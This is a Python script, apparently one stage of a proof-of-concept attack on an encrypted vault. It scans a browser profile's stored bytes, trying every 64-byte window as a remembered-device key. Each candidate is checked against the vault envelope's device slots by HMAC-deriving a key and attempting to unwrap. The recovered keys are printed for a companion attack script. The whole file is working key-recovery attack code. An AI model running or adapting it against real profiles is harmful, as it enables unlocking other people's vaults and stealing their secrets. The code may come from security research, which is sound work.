"""Looks for the keys of remembered devices among the bytes of a browser's profile: each 64 bytes in a row are tried.

    device_keys.py FILE < ENVELOPES

FILE has pieces of the profile, each behind its length in four bytes (little-endian). ENVELOPES is an array of JSON, base64
each: what lies in the profile, or ever did. Prints an array of {"slot", "deviceKey"}, base64url; attack.py takes the latter.
"""

import base64
import hmac
import json
import struct
import sys
from pathlib import Path

import open_vault

KEY = 64


def pieces(data):
    at = 0
    while at < len(data):
        (length,) = struct.unpack_from("<I", data, at)
        yield data[at + 4 : at + 4 + length]
        at += 4 + length


def windows(found):
    for piece in found:
        for at in range(len(piece) - KEY + 1):
            yield piece[at : at + KEY]


def is_key_of(slot, envelope, key):
    """Whether the slot opens by what the browser's HMAC would answer to its salt."""
    secret = hmac.digest(key, open_vault.to_bytes(slot["salt"]), "sha256")
    unwrap = open_vault.unwrap if "wrapped" in slot else open_vault.own_private_key
    return unwrap(envelope, slot, open_vault.derived_key(slot, secret)) is not None


def main():
    found = list(pieces(Path(sys.argv[1]).read_bytes()))
    devices = {}
    for envelope in (open_vault.parse(base64.b64decode(text)) for text in json.load(sys.stdin)):
        for slot in envelope.header["slots"]:
            if slot["kind"] == "device":
                devices[slot["id"]] = (slot, envelope)
    keys = [
        {"slot": name, "deviceKey": base64.urlsafe_b64encode(key).rstrip(b"=").decode()}
        for name, (slot, envelope) in devices.items()
        for key in {key for key in windows(found) if is_key_of(slot, envelope, key)}
    ]
    print(json.dumps(keys))


main()
